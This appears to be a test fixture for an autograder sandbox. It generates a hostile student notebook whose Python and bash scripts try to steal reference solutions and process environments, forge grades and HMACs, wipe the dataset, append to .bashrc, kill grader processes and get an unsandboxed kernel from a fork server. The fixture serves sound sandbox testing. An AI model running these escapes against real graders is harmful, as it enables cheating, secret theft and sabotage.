"""A student who has read the grader's source and wants a better grade, or a classmate's
worse one: a notebook that tries every escape through every door a kernel has.

The same attacks run as Python inside the kernel, as a second Python started by
``subprocess``, by IPython's ``!``, by ``ctypes`` calling libc's ``system``, and as a bash
script (through ``!`` and ``os.system``).  The attacker knows every path (worst case:
they read the grader's source and the instructor's command line); what it prints is
never trusted: the tests look at the effects from outside.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass

# Marks: a daemon left behind runs ``sleep <ORPHAN>``; a stolen file lands in ``leak``; a key
# left in a keyring is named ``KEY``.
ORPHAN = "765432"
FORGED = "FORGED-BY-THE-ATTACKER"
KEY = "grader-escape-key"


@dataclass(frozen=True)
class Targets:
    out: str
    cache: str
    reference: str
    assignment: str
    home: str
    leak: str
    tcp_port: int
    udp_port: int


ATTACK_PY = r'''
import glob, json, os, signal, socket, subprocess, sys
T = json.load(open("targets.json"))
TAG = sys.argv[1] if len(sys.argv) > 1 else "kernel"
FORGED = "FORGED-BY-THE-ATTACKER"
KEY = "grader-escape-key"


def attempt(name, action):
    try:
        action()
        print(TAG, name, "got through")
    except Exception as exc:
        print(TAG, name, "refused:", type(exc).__name__)


def cmdline(pid):
    return open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")


def graders():
    """The grader's processes above this one (the batch worker, ``grader grade``, pytest),
    found by walking up ``/proc``: the attacker's own kernel, launcher and group are spared."""
    found, pid = [], os.getppid()
    while pid > 1:
        try:
            line = cmdline(pid)
            pid_next = int(open(f"/proc/{pid}/stat", "rb").read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if "grader.sandbox" not in line and os.getpgid(pid) != os.getpgid(0):
            found.append(pid)
        pid = pid_next
    return found


def steal(path):
    data = open(path, "rb").read()
    os.makedirs(T["leak"], exist_ok=True)
    open(os.path.join(T["leak"], TAG + "-" + os.path.basename(path)), "wb").write(data)
    print(TAG, "stole", path, data[:80])


def steal_environments():
    for pid in graders():
        steal(f"/proc/{pid}/environ")
        steal(f"/proc/{pid}/cmdline")


def forge_records():
    records = glob.glob(os.path.join(T["out"], "*.json"))
    for path in records + [os.path.join(T["out"], "z_honest.json")]:
        with open(path, "w") as f:
            forged = {"status": "graded", "score": 0.0, "forged": FORGED}
            json.dump({"id": os.path.basename(path)[:-5], **forged}, f)
    with open(os.path.join(T["out"], "gradebook.csv"), "a") as f:
        f.write(FORGED + "\n")


def forge_measurements():
    for path in glob.glob(os.path.join(T["cache"], "measurements", "*.json")):
        forged = {"measurement": json.dumps({"accuracy": 1.0}), "hmac": FORGED}
        open(path, "w").write(json.dumps(forged))


def damage_dataset():
    os.truncate(os.path.join(T["cache"], "mnist.npz"), 0)


def touch_home():
    os.remove(os.path.join(T["home"], "canary.txt"))
    open(os.path.join(T["home"], ".bashrc"), "a").write("echo " + FORGED + "\n")


def connect():
    socket.create_connection(("127.0.0.1", T["tcp_port"]), timeout=3).sendall(FORGED.encode())


def send_udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(FORGED.encode(), ("127.0.0.1", T["udp_port"]))


def leave_daemons():
    quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.Popen(["sleep", "765432"], start_new_session=True, **quiet)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execvp("sleep", ["sleep", "7654321"])
        os._exit(0)


def servers():
    """The fork server this kernel was forked from, and its handler and launcher, where they can be
    seen (no PID namespace): the processes above that run the server's command line (they were
    forked from it), but for this kernel's own process group."""
    found, pid = [], os.getppid()
    while pid > 1:
        try:
            line = cmdline(pid)
            pid_next = int(open(f"/proc/{pid}/stat", "rb").read().rsplit(b")", 1)[1].split()[1])
            if "zygote" in line and os.getpgid(pid) != os.getpgid(0):
                found.append(pid)
        except (OSError, ValueError, IndexError):
            break
        pid = pid_next
    return found


def ask_the_server():
    """Ask the fork server for a kernel of the attacker's own plan (no Landlock, no seccomp),
    through any pipe this kernel holds, its abstract socket and its handler's files; a launcher
    started from it would write its report into the leak folder.  Then steal its environment
    and kill it."""
    plan = os.path.abspath("server-plan.json")
    json.dump({"report": os.path.join(T["leak"], "server-forked"), "landlock_abi": 0,
               "seccomp": False, "read_only": [], "read_write": [], "files": [],
               "deny_tcp": False}, open(plan, "w"))
    asked = {"id": 1, "plan": plan, "unshare": 0, "args": ["-f", plan], "env": {}, "cwd": "/"}
    request = (json.dumps(asked) + "\n").encode()
    for fd in os.listdir("/proc/self/fd"):
        try:
            if int(fd) > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                os.write(int(fd), request)
        except OSError:
            pass
    for name in open("/proc/net/unix").read().split():
        if name.startswith("@grader-server-"):
            try:
                client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                client.connect("\0" + name[1:])
                client.sendall(request)
                print(TAG, "server socket answered", client.recv(200))
            except OSError:
                pass
    found = servers()
    if not found:
        raise LookupError("no fork server in sight")
    steps = [lambda pid=pid, fd=fd: open(f"/proc/{pid}/fd/{fd}", "wb").write(request)
             for pid in found for fd in range(8)]
    steps += [lambda pid=pid: steal(f"/proc/{pid}/environ") for pid in found]
    steps += [lambda pid=pid: os.kill(pid, signal.SIGKILL) for pid in found]
    refused = []
    for step in steps:
        try:
            step()
        except OSError as exc:
            refused.append(exc)
    if len(refused) == len(steps):
        raise refused[0]


def add_keys():
    """A key in the session keyring and one in the user's (shared by every process of the user):
    the next kernel would read either."""
    import ctypes, platform
    libc = ctypes.CDLL(None, use_errno=True)
    number = {"x86_64": 248, "aarch64": 217}[platform.machine()]
    for keyring in (-3, -4):  # KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING
        if libc.syscall(number, b"user", KEY.encode(), FORGED.encode(), len(FORGED), keyring) < 0:
            raise OSError(ctypes.get_errno(), "add_key")


def stop_the_grader():
    for pid in graders():
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            os.kill(pid, sig)
        os.killpg(os.getpgid(pid), signal.SIGKILL)


for name in json.load(open("attacks.json")):
    action = {"steal": lambda: [steal(T["reference"]), steal(T["assignment"])],
              "environments": steal_environments, "records": forge_records,
              "measurements": forge_measurements, "dataset": damage_dataset,
              "home": touch_home, "tcp": connect, "udp": send_udp, "daemons": leave_daemons,
              "grader": stop_the_grader, "server": ask_the_server, "keyring": add_keys}[name]
    attempt(name, action)
'''

ATTACK_SH = r"""
TAG="$1"
cat "$REFERENCE" > "$LEAK/$TAG-reference" 2>/dev/null && echo "$TAG stole the reference"
cat /proc/*/environ > "$LEAK/$TAG-environ" 2>/dev/null
for f in "$OUT"/*.json "$OUT/gradebook.csv"; do echo "FORGED-BY-THE-ATTACKER" >> "$f"; done
for f in "$CACHE"/measurements/*.json; do echo "FORGED-BY-THE-ATTACKER" > "$f"; done
: > "$CACHE/mnist.npz"
rm -f "$HOME_DIR/canary.txt"; echo "echo FORGED-BY-THE-ATTACKER" >> "$HOME_DIR/.bashrc"
(exec 3<>"/dev/tcp/127.0.0.1/$TCP_PORT" && echo FORGED-BY-THE-ATTACKER >&3) 2>/dev/null
nohup sleep 765432 >/dev/null 2>&1 &
setsid sleep 7654321 >/dev/null 2>&1 < /dev/null &
p=$PPID
while [ "$p" -gt 1 ]; do
    next=$(awk '/^PPid/ {print $2}' "/proc/$p/status" 2>/dev/null || echo 0)
    group=$(cut -d' ' -f5 "/proc/$p/stat" 2>/dev/null)
    mine=$(cut -d' ' -f5 /proc/$$/stat)
    if ! grep -q grader.sandbox "/proc/$p/cmdline" 2>/dev/null && [ "$group" != "$mine" ]; then
        kill -STOP "$p"; kill -KILL "$p"
    fi
    p=${next:-0}
done
echo "$TAG done"
"""
ATTACK_SH_NOT_FILES = "\n".join(
    line
    for line in ATTACK_SH.splitlines()
    if not any(word in line for word in ("LEAK", "OUT", "CACHE", "HOME_DIR"))
)


EVERY_ATTACK = (
    "steal",
    "environments",
    "records",
    "measurements",
    "dataset",
    "home",
    "tcp",
    "udp",
    "daemons",
    "grader",
    "server",
    "keyring",
)
# What a machine without Landlock would let through anyway: attacks on the other layers only.
NOT_FILES = ("tcp", "udp", "daemons", "grader", "server", "keyring")


def notebook(targets: Targets, attacks: tuple[str, ...] = EVERY_ATTACK) -> bytes:
    """The attacker's notebook: writes its tools, then runs ``attacks`` through every door
    (the bash script tries the file attacks only when ``attacks`` has them)."""
    env = (
        f"REFERENCE={targets.reference!r} LEAK={targets.leak!r} OUT={targets.out!r} "
        f"CACHE={targets.cache!r} "
        f"HOME_DIR={targets.home!r} TCP_PORT={targets.tcp_port}"
    )
    setup = (
        f"import json, os, sys, subprocess, ctypes\n"
        f"json.dump({asdict(targets)!r}, open('targets.json', 'w'))\n"
        f"open('attack.py', 'w').write({ATTACK_PY!r})\n"
        f"json.dump({list(attacks)!r}, open('attacks.json', 'w'))\n"
        "open('attack.sh', "
        f"'w').write({ATTACK_SH if 'records' in attacks else ATTACK_SH_NOT_FILES!r})\n"
    )
    cells = [
        setup,
        "exec(open('attack.py').read())",
        "!{sys.executable} attack.py bang",
        "print(subprocess.run([sys.executable, 'attack.py', 'python'], capture_output=True, "
        "text=True).stdout)",
        "ctypes.CDLL(None).system(f'{sys.executable} attack.py ctypes'.encode())",
        f"!{env} bash attack.sh bang-shell",
        f"os.system({env + ' bash attack.sh os-system'!r})",
        "print('the attacker finished')",
    ]
    return json.dumps(
        {
            "cells": [
                {
                    "cell_type": "code",
                    "source": c,
                    "metadata": {},
                    "execution_count": None,
                    "outputs": [],
                }
                for c in cells
            ],
            "metadata": {},
            "nbformat": 4,
            "nbformat_minor": 5,
        }
    ).encode()
